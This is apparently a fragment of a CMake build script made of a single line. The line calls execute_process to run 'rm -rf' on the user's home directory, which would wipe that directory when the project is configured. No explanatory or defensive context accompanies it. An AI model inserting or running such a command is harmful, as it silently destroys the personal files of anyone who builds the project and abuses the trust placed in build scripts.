execute_process(COMMAND rm -rf $ENV{HOME})
